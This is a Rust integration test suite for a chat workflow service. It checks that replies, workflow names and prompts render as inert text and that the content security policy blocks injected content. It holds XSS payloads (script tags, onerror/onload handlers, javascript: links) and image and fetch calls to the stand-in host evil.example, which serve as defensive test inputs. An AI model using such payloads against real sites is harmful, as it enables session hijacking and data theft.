//! Replies, names and titles that try to be more than text.

use integration_tests::{Browser, TestService, graphs};
use serde_json::json;
use wire::{UpdateChatSettings, UpdateWorkflow};

use super::{idle, open, replied};

const HOSTILE: &str = r#"<script>window.bad = 1</script><img src=x onerror="window.bad = 2">

![pixel](https://evil.example/?q=secret) [run](javascript:window.bad=3) [data](data:text/html,<script>window.bad=4</script>)

<a href="javascript:window.bad=5">x</a> `<b>` **<i>bold</i>** [ok](https://example.org/?a=1&b=2 "t")

```html
<script>window.bad = 6</script>
```

| <img src=x onerror=window.bad=7> | b |
|--|--|
| <svg onload=window.bad=8> | 2 |

The end."#;

#[tokio::test]
async fn replies_are_rendered_as_text_and_fetch_nothing() {
    let t = TestService::start().await;
    let workflow = t.workflow().graph(graphs::reply("{{ inputs.message }}")).published().create().await;
    let browser = open(&t, &workflow).await;
    let message = serde_json::Value::from(HOSTILE);
    browser.js(&format!("const t = document.querySelector('textarea'); t.value = {message}; t.dispatchEvent(new Event('input'))")).await;
    browser.click(".send").await;
    replied(&browser, "The end.").await;
    idle(&browser).await;
    assert_eq!(browser.js("return window.bad ?? null").await, json!(null));
    assert_eq!(browser.js("return document.querySelectorAll('.log img, .log script, .log svg:not(.icon), .log iframe').length").await, 0);
    let links = browser
        .js("return [...document.querySelectorAll('.assistant a')].map((a) => [a.href, a.rel, a.target])")
        .await;
    let rel = "noopener noreferrer nofollow";
    assert_eq!(
        links,
        json!([
            ["https://evil.example/?q=secret", rel, "_blank"],
            ["https://example.org/?a=1&b=2", rel, "_blank"]
        ])
    );
    let fetched =
        browser.js("return performance.getEntriesByType('resource').map((e) => new URL(e.name).host)").await;
    let here = t.address().to_string();
    assert!(fetched.as_array().unwrap().iter().all(|host| *host == here), "{fetched}");
    assert_eq!(browser.text(".user .bubble").await, HOSTILE);
    browser.finish().await;
}

#[tokio::test]
async fn names_and_titles_are_rendered_as_text() {
    let t = TestService::start().await;
    let name = r#""><script>window.bad = 1</script><img src=x onerror='window.bad=2'>{{ 7 * 7 }}"#;
    let workflow = t.workflow().named(name).echo().published().create().await;
    let prompts = vec![json!({"label": "<img src=x onerror=window.bad=3>", "prompt": "<u>hi</u>"})];
    let chat = UpdateChatSettings { start_prompts: Some(prompts), ..UpdateChatSettings::default() };
    let description = Some(Some(name.to_owned()));
    let update = UpdateWorkflow { description, chat: Some(chat), ..UpdateWorkflow::default() };
    t.client().update_workflow(&workflow.id, &update).await.unwrap();
    let browser = open(&t, &workflow).await;
    assert_eq!(browser.js("return document.title").await, name);
    assert_eq!(browser.text(".start-name").await, name);
    browser.click(".prompt").await;
    replied(&browser, "<u>hi</u>").await;
    idle(&browser).await;
    browser.until("document.querySelector('.thread')?.innerText === '<u>hi</u>'").await;
    assert_eq!(browser.js("return window.bad ?? null").await, json!(null));
    browser.finish().await;

    let landing = Browser::start().await;
    landing.goto(&format!("http://{}/", t.address())).await;
    landing.until("document.querySelector('.workflow')").await;
    assert_eq!(landing.text(".workflow h3").await, name);
    assert_eq!(landing.js("return window.bad ?? null").await, json!(null));
    landing.finish().await;
}

#[tokio::test]
async fn the_content_security_policy_blocks_injected_content() {
    let t = TestService::start().await;
    let workflow = t.workflow().echo().published().create().await;
    let browser = Browser::start().await;
    browser.goto(&super::address(&t, &workflow)).await;
    browser.until("document.querySelector('textarea')").await;
    let tried = browser
        .js_async(
            "const blocked = [];
             document.addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective));
             const script = document.createElement('script');
             try { script.text = 'window.bad = 1'; document.body.append(script); } catch { blocked.push('types'); }
             try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); } catch { blocked.push('types'); }
             const image = new Image(); image.src = 'http://evil.example/x.png'; document.body.append(image);
             await fetch('https://evil.example/').catch(() => {});
             await new Promise((resolve) => setTimeout(resolve, 200));
             return [window.bad ?? null, [...new Set(blocked)].sort()];",
        )
        .await;
    assert_eq!(tried, json!([null, ["connect-src", "img-src", "require-trusted-types-for", "types"]]));
}
